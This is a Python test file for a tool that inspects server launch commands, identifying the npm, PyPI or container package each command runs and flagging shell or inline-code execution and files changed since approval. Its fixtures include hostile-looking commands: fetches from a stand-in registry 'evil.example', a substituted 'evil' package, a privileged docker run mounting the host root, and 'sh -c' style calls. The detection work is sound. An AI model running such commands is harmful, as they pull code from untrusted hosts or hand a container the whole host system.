"""What a command runs, and what changed of it since a person approved it."""

import shlex

import pytest

from inspector.core.package_run import package_run, runs_anything
from inspector.core.server import RunFile, changed_files

RUNS = {
    "npx -y @acme/weather@1.2.3 --zone UTC": ("npm @acme/weather 1.2.3", (), True),
    "npx -y --registry=http://evil.example server-mem0ry": (
        "npm server-mem0ry",
        ("--registry=http://evil.example",),
        False,
    ),
    "npx --registry http://evil.example a@1.0.0": (
        "npm a 1.0.0",
        ("--registry", "http://evil.example"),
        True,
    ),
    "npx -y -p evil@1.0.0 good": ("npm evil 1.0.0", ("-p", "evil@1.0.0"), True),
    "npx -p one -p two good": ("", ("-p", "one", "-p", "two"), False),
    "/usr/bin/npx -y a@latest": ("npm a latest", (), False),
    "npx -y a@^1": ("npm a ^1", (), False),
    "npx.cmd --yes -- a@1.0.0": ("npm a 1.0.0", (), True),
    "uvx mcp-time==2025.1 --zone UTC": ("pypi mcp-time 2025.1", (), True),
    "uvx mcp-time[all]@1.0": ("pypi mcp-time 1.0", (), True),
    "uvx --from evil==1 mcp-time": ("pypi evil 1", ("--from", "evil==1"), True),
    "uvx --index-url http://evil.example mcp-time": (
        "pypi mcp-time",
        ("--index-url", "http://evil.example"),
        False,
    ),
    "docker run -i --rm -e API_KEY mcp/time:1.0": ("oci mcp/time 1.0", (), True),
    "docker run -i --rm localhost:5000/time": ("oci localhost:5000/time", (), False),
    "docker run -i --rm mcp/time:latest": ("oci mcp/time latest", (), False),
    "docker run -i mcp/time@sha256:abc": ("oci mcp/time sha256:abc", (), True),
    "docker run -i --privileged -v /:/host mcp/time:1": (
        "oci mcp/time 1",
        ("--privileged", "-v", "/:/host"),
        True,
    ),
    "docker run -itv /:/host mcp/time:1": ("oci mcp/time 1", ("-itv", "/:/host"), True),
    "docker run -v/:/host -e A=1 mcp/time:1": ("oci mcp/time 1", ("-v/:/host", "-e", "A=1"), True),
    "docker exec -it other sh": ("", ("exec", "-it", "other", "sh"), False),
    "podman run": ("", (), False),
}


@pytest.mark.parametrize("command", RUNS)
def test_the_words_of_a_command_say_which_package_it_runs_with_which_options(command: str) -> None:
    run = package_run(shlex.split(command))
    assert run is not None
    assert (run.label, run.options, run.is_exact) == RUNS[command]


@pytest.mark.parametrize("command", ["python3 server.py", "npxx a", "./run", ""])
def test_a_command_that_fetches_nothing_has_no_package(command: str) -> None:
    assert package_run(shlex.split(command)) is None


ANYTHING = (
    "sh -c id",
    "/bin/bash x.sh",
    r"C:\Windows\System32\cmd.exe /c x",
    "/usr/bin/env bash -c id",
    "sudo x",
    "python3 -c 'import os'",
    "/usr/bin/python3.12 -W ignore -Ic 'import os'",
    "node --eval=1",
    "node -e 1",
    "deno eval 1",
    "perl -we 1",
    "ruby -e 1",
    "php -r 1",
)
NO_MORE = (
    "python3 server.py -c x",
    "node server.js -e x",
    "python -m mcp_time",
    "npx -y a",
    "./run -c x",
    "",
)


@pytest.mark.parametrize("command", ANYTHING)
def test_a_shell_and_code_on_the_command_line_are_told(command: str) -> None:
    assert runs_anything(shlex.split(command, posix="\\" not in command))


@pytest.mark.parametrize("command", NO_MORE)
def test_a_program_with_arguments_of_its_own_is_no_shell(command: str) -> None:
    assert not runs_anything(shlex.split(command))


def test_a_file_with_another_content_is_changed_and_one_that_was_not_there_is_new() -> None:
    (changed,) = changed_files([RunFile("/srv/a", "2")], [RunFile("/srv/a", "1")])
    assert changed.text == "/srv/a: changed since you approved it"
    (new,) = changed_files([RunFile("/srv/new.py", "1")], [RunFile("/srv/a", "1")])
    assert new.brief == "new: new.py"
